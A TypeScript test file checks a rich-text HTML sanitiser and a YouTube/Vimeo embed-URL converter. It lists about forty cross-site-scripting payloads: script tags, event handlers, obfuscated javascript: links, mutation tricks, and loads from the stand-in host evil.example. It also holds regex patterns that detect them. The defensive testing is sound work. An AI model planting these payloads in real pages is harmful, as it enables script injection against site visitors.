import { expect, test } from 'vitest'
import { toVideoEmbedUrl } from '#domain/content/rich-text/video-embed.ts'
import { toSafeLink, toSafePictureUrl, sanitiseRichText } from './sanitise.ts'

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x"onerror="alert(1)">',
  '<img/src/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "//evil.example"</style>',
  '<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  jAvA\tsCrIpT\n:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="x" onmouseover="alert(1)">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="//www.youtube.com.evil.example/embed/abcdefgh"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<body onload=alert(1)><base href="//evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<template><img src=x onerror=alert(1)></template>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="javascript:alert(1)">',
  '<p class="fixed inset-0 ql-align-center" id="root">x</p>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<a href="x" id="__data" name="cookie">x</a>',
  'x" onload="alert(1)',
]

/** Start tags with their attributes. */
const tags = (html: string) => html.match(/<[a-z][^>]*>/gi) ?? []

test.each(attacks)('sanitise removes executable markup: %s', (attack) => {
  for (const tag of tags(sanitiseRichText(attack))) {
    expect(tag).not.toMatch(
      /^<(?:script|style|svg|math|object|embed|form|input|button|template|base|meta|body|video|details|noscript|textarea|iframe)/i,
    )
    expect(tag).not.toMatch(/\s(?:on\w+|style|srcdoc|id|name|formaction|xlink:href)\s*=/i)
    expect(tag).not.toMatch(/(?:java|vb)\s*script:|data:text|svg\+xml|evil/i)
    expect(tag).not.toMatch(/class="[^"]*(?:fixed|inset)/)
  }
})

test.each(attacks)('sanitise is idempotent: %s', (attack) =>
  expect(sanitiseRichText(sanitiseRichText(attack))).toBe(sanitiseRichText(attack)),
)

test.each([
  '<h2>Kop</h2><p class="ql-align-center">Een <strong>vette</strong>, <em>schuine</em> en <u>onderstreepte</u> zin.</p>',
  '<ol><li data-list="bullet" class="ql-indent-1">punt</li></ol>',
  '<p><span class="ql-color-red ql-bg-yellow ql-size-large ql-font-serif">kleur</span> H<sub>2</sub>O m<sup>2</sup></p>',
  '<div class="ql-code-block-container"><div class="ql-code-block">regel</div></div>',
  '<p><a href="/contact">contact</a> <a href="mailto:post@luwte.example">mail</a> <a href="tel:+31201234567">bel</a></p>',
  '<blockquote>Rust &amp; ruimte</blockquote>',
])('sanitise preserves the editor’s formats: %s', (html) =>
  expect(sanitiseRichText(html)).toBe(html),
)

test('sanitise replaces unsupported links and pictures as specified', () => {
  expect(sanitiseRichText('<a href="ftp://x/y">x</a>')).toBe('<a href="about:blank">x</a>')
  expect(sanitiseRichText('<img src="blob:x">')).toBe('<img alt="" src="//:0" />')
  expect(toSafeLink('sms:+316')).toBe('sms:+316')
  expect(toSafeLink('#kop')).toBe('#kop')
  expect(toSafeLink('http://[')).toBe('about:blank')
  expect(toSafePictureUrl('/media/a.jpg')).toBe('/media/a.jpg')
  expect(toSafePictureUrl('data:image/png;base64,iVBORw0=')).toBe('data:image/png;base64,iVBORw0=')
  expect(toSafePictureUrl('data:text/html,x')).toBe('//:0')
})

test('sanitise adds noopener and noreferrer to a link that opens a new tab', () =>
  expect(sanitiseRichText('<a href="https://x.example" target="_blank" rel="opener">x</a>')).toBe(
    '<a href="https://x.example" target="_blank" rel="noopener noreferrer">x</a>',
  ))

test.each([
  [
    'https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=3',
    'https://www.youtube.com/embed/dQw4w9WgXcQ?showinfo=0',
  ],
  ['https://youtu.be/dQw4w9WgXcQ', 'https://www.youtube.com/embed/dQw4w9WgXcQ?showinfo=0'],
  ['https://vimeo.com/123456', 'https://player.vimeo.com/video/123456/'],
  ['https://player.vimeo.com/video/123456/', 'https://player.vimeo.com/video/123456/'],
  ['https://evil.example/youtube.com/watch?v=dQw4w9WgXcQ', ''],
  ['javascript:alert(1)//youtu.be/dQw4w9WgXcQ', ''],
])('videoEmbed(%j) is %j', (src, embed) => expect(toVideoEmbedUrl(src)).toBe(embed))
